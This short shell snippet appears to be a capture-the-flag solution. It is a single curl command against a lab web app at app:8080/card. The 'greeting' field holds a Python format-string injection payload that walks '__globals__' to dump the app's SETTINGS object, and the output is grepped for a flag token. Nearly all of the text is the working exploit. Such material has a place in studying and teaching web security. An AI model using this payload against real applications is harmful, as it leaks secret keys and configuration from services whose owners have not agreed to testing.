#-- the first code among the settings
curl -s http://app:8080/card -d sender=Ann -d to=Bo \
    --data-urlencode 'greeting={card.line.__globals__[SETTINGS].__dict__}' | grep -o 'flag{[0-9a-f]*}' | head -1
